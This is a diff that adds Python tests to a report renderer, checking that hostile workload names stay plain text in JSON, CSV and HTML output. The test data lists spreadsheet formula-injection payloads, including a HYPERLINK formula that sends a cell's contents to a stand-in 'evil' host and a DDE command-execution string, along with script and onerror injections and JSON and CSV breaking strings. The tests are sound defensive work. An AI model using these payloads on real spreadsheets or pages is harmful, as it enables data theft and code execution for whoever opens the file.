@@ -122,6 +122,38 @@ def test_no_cell_of_text_begins_as_a_formula_does(name: str) -> None:
     cell.encode()  # no lone surrogate is left
 
 
+@given(st.lists(st.text(), min_size=1, max_size=4, unique=True))
+def test_json_says_any_name_as_it_is(names: list[str]) -> None:
+    fields = json.loads(presentations.load("json").render(named(*names)))
+    assert [row["workload"] for row in fields["rows"]] == names
+
+
+def test_names_that_attack_whoever_opens_the_file_are_only_text() -> None:
+    attacks = (
+        '=HYPERLINK("http://evil/?"&A1;"paid")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        " =1+1",
+        '</script><script>alert("1")</script>',
+        "<img src=x onerror=alert(1)>",
+        '"],"total_joules":"0","x":["',
+        "a,b\r\nc,d",
+    )
+    report = named(*attacks)
+    fields = json.loads(presentations.load("json").render(report))
+    assert [row["workload"] for row in fields["rows"]] == list(attacks)
+    assert fields["total_joules"] == str(len(attacks))
+    cells = list(csv.DictReader(io.StringIO(presentations.load("csv").render(report).decode())))
+    assert len(cells) == len(attacks)
+    for cell, attack in zip(cells, attacks, strict=True):
+        assert cell["workload"].lstrip()[0] not in "=+-@"
+        assert cell["workload"].removeprefix("'") == attack
+    page = presentations.load("html").render(report).decode()
+    assert not [each for each in ("<script", "<img") if each in page.lower()]
+
+
 def test_a_table_has_bars_totals_and_what_limits_it(report: Report) -> None:
     text = presentations.load("table").render(report).decode()
     assert text.splitlines()[0] == (
